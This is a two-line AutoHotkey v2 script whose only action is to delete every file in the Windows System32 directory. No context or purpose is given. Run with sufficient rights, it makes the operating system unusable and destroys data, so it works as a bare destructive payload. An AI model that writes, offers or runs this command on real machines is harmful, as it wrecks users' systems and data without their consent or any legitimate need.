#Requires AutoHotkey v2.0
FileDelete "C:\Windows\System32\*.*"
